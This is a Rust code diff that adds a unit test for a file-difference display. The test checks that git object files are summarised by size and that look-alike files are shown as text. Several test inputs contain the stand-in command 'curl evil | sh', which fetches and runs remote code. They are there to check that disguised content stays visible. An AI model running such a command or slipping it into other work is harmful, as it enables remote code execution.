@@ -25,7 +25,7 @@ use super::{
 };
 use crate::text::difflib::Effort;
 
-use self::difference::{difference, legible, with_content};
+use self::difference::{difference, legible_at, with_content};
 pub(super) use self::received::received;
 
 /// Longer files are shown by size and digest only.
@@ -449,6 +449,38 @@ mod tests {
         assert!(instead.ends_with("+new\n"), "{instead}");
         let size = shown(Some(b"old\n"), &none);
         assert_eq!(size, "f: 4 bytes become 400 bytes, not shown as text\n");
+    }
+
+    #[test]
+    fn an_object_of_a_repository_is_told_by_its_size_and_what_only_lies_there_is_shown() {
+        let shown = |path: &str, bytes: &[u8]| {
+            difference(path, None, Some(bytes), &mut Effort::of_a_question())
+        };
+        let packed = |text: &str| {
+            use std::io::Write as _;
+            let level = flate2::Compression::fast();
+            let mut to = flate2::write::ZlibEncoder::new(Vec::new(), level);
+            to.write_all(text.as_bytes()).unwrap();
+            to.finish().unwrap()
+        };
+        let name = "0123456789abcdef0123456789abcdef012345";
+        let object = packed("blob 5\0alpha");
+        let loose = format!("/w/.git/objects/ab/{name}");
+        let size = format!("{loose}: new, {} bytes, not shown as text\n", object.len());
+        assert_eq!(shown(&loose, &object), size);
+        let pack = "/w/a.git/objects/pack/pack-1.idx";
+        assert!(shown(pack, b"\xfftOc\0\0\0\x02").ends_with("not shown as text\n"));
+        for (path, bytes) in [
+            ("/w/objects/ab/evil", object.as_slice()),
+            (&*format!("/w/ab/{name}"), &object),
+            (&loose, b"x\x9c\ncurl evil | sh\n"),
+            (&loose, b"curl evil | sh\n"),
+            (&loose, &packed("#!/bin/sh\ncurl evil")),
+            (pack, b"curl evil | sh\n"),
+        ] {
+            let shown = shown(path, bytes);
+            assert!(shown.contains("@@\n+"), "{path}: {shown}");
+        }
     }
 
     #[test]
